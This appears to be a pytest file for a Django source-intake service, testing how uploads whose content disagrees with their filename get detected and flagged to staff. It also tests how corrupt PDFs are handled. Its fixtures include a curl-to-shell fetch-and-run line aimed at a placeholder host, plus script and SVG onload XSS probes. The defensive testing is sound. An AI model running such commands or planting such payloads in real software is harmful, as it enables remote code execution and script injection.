"""A file whose content is not what its name says is reported to the source and
flagged to staff before download; a file of a kind we clean that cannot be read
is reported as such and kept or dropped as the source's "keep original" choice says."""

from __future__ import annotations

import io
import sys
import zipfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from rapporteur.intake.cleaning import clean_file, detect_kind, name_mismatch
from rapporteur.intake.models import Attachment, Submission
from rapporteur.testing.files import jpeg_with_gps, pdf_with_author
from rapporteur.testing.intake import client_in, receipt_in, submit
from rapporteur.testing.vault import sign_in_unlocked


def _pe_program() -> bytes:
    """A real Windows program: pip ships launcher executables."""
    try:
        import pip._vendor.distlib as distlib
    except ImportError:  # pragma: no cover - pip is in every virtual environment we use
        return b"MZ\x90\x00" + bytes(56) + (64).to_bytes(4, "little") + b"PE\x00\x00" + bytes(64)
    return (Path(distlib.__file__).parent / "t64.exe").read_bytes()[:8192]


def _docx() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", "<w:document/>")
    return buffer.getvalue()


ELF_PROGRAM = Path(sys.executable).resolve().read_bytes()[:8192]  # this machine's Python
MACH_O = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(56)
SCRIPT = b"#!/bin/sh\ncurl -s http://example.invalid/x | sh\n"
HTML = b"\xef\xbb\xbf\n  <!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
SVG = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
CORRUPT_PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R\n" + bytes(range(256)) * 4


@pytest.mark.parametrize(
    ("content", "name", "kind", "claimed"),
    [
        # content and name disagree: the name's claim is reported
        (_pe_program(), "photo.jpg", "executable", "jpeg"),
        (ELF_PROGRAM, "report.PDF", "executable", "pdf"),
        (MACH_O, "scan.png", "executable", "png"),
        (SCRIPT, "notes.txt", "script", "text"),
        (HTML, "statement.pdf", "html", "pdf"),
        (SVG, "map.jpeg", "svg", "jpeg"),
        (pdf_with_author(), "photo.jpg", "pdf", "jpeg"),
        (jpeg_with_gps(), "letter.docx", "jpeg", "docx"),
        (_docx(), "photo.jpg", "docx", "jpeg"),
        (b"just some bytes", "photo.jpg", "unknown", "jpeg"),
        # dangerous content under a name that claims nothing we know
        (_pe_program(), "invoice", "executable", ""),
        (HTML, "page.xyz", "html", ""),
        # content and name agree
        (jpeg_with_gps(), "PHOTO.JPG", "jpeg", None),
        (pdf_with_author(), "statement.pdf", "pdf", None),
        (_docx(), "letter.docx", "docx", None),
        (_docx(), "bundle.zip", "docx", None),
        (b"plain words", "notes.txt", "unknown", None),
        (b"plain words", "notes", "unknown", None),
        (HTML, "saved.html", "html", None),
        (_pe_program(), "setup.exe", "executable", None),
    ],
)
def test_content_is_compared_with_the_name(tmp_path, content, name, kind, claimed):
    path = tmp_path / "upload"
    path.write_bytes(content)
    assert detect_kind(path=path, filename=name) == kind
    assert name_mismatch(kind=kind, filename=name) == claimed
    assert clean_file(path=path, filename=name, workdir=tmp_path).claimed_kind == claimed


def test_a_corrupt_pdf_is_reported_unreadable(tmp_path):
    path = tmp_path / "upload"
    path.write_bytes(CORRUPT_PDF)
    result = clean_file(path=path, filename="statement.pdf", workdir=tmp_path)
    assert (result.kind, result.cleaned, result.unreadable) == ("pdf", False, True)
    # A protected but readable PDF is "cannot be cleaned", not "unreadable".
    path.write_bytes(_protected_pdf())
    result = clean_file(path=path, filename="statement.pdf", workdir=tmp_path)
    assert not result.cleaned and not result.unreadable


def _protected_pdf() -> bytes:
    import pikepdf

    out = io.BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        pdf.save(out, encryption=pikepdf.Encryption(owner="o", user=""))
    return out.getvalue()


@pytest.mark.django_db
def test_an_executable_named_jpg_is_reported_and_flagged_to_staff(desk, rapporteur_user):
    files = [SimpleUploadedFile("photo.jpg", _pe_program(), content_type="image/jpeg")]
    response = submit(client_in("ru"), files=files)
    receipt_in(response)
    html = response.content.decode()
    assert "По имени это изображение JPEG, но по содержимому — исполняемая программа" in html
    submission = Submission.objects.get()
    assert Attachment.objects.count() == 1  # stored, sealed, with its flag
    assert b"executable" not in bytes(Attachment.objects.get().meta_envelope)

    staff = sign_in_unlocked(rapporteur_user)
    page = staff.get(reverse("intake_desk:submission", args=[submission.pk])).content.decode()
    warning = (
        "This file says it is a JPEG image but its content is an executable program. "
        "Open it only in a safe environment."
    )
    assert warning in page
    assert page.index(warning) < page.index("photo.jpg</a>")  # read before the link


@pytest.mark.django_db
def test_agreeing_files_carry_no_warning(desk, rapporteur_user):
    files = [SimpleUploadedFile("photo.jpg", jpeg_with_gps())]
    response = submit(Client(), files=files)
    assert "our team will be warned" not in response.content.decode()
    staff = sign_in_unlocked(rapporteur_user)
    page = staff.get(reverse("intake_desk:submission", args=[Submission.objects.get().pk]))
    assert "safe environment" not in page.content.decode()


@pytest.mark.django_db
@pytest.mark.parametrize("language", ["en", "tg"])
def test_a_corrupt_pdf_to_clean_is_reported_unreadable_and_not_kept(desk, language, settings):
    files = [
        SimpleUploadedFile("statement.pdf", CORRUPT_PDF),
        SimpleUploadedFile("photo.jpg", jpeg_with_gps()),
    ]
    response = submit(client_in(language), files=files)
    receipt_in(response)
    html = response.content.decode()
    expected = {
        "en": "it could not be read (it may be damaged), so it was not kept",
        "tg": "онро хондан нашуд (шояд вайрон бошад), бинобар ин нигоҳ дошта нашуд",
    }[language]
    assert expected in html
    assert html.index("statement.pdf") < html.index("photo.jpg")  # reported in the order sent
    assert "cannot be cleaned" not in html and "тоза кардан ғайриимкон" not in html
    assert Attachment.objects.count() == 1  # only the photo
    stored = [p for p in Path(settings.INTAKE_FILE_STORE).rglob("*") if p.is_file()]
    assert len(stored) == 1


@pytest.mark.django_db
def test_a_corrupt_pdf_is_kept_as_sent_when_the_source_asks(desk, rapporteur_user):
    files = [SimpleUploadedFile("statement.pdf", CORRUPT_PDF)]
    response = submit(Client(), files=files, keep_original="on")
    assert "kept exactly as you sent it" in response.content.decode()
    attachment = Attachment.objects.get()
    staff = sign_in_unlocked(rapporteur_user)
    got = staff.get(reverse("intake_desk:download", args=[attachment.submission_id, attachment.pk]))
    assert b"".join(got.streaming_content) == CORRUPT_PDF
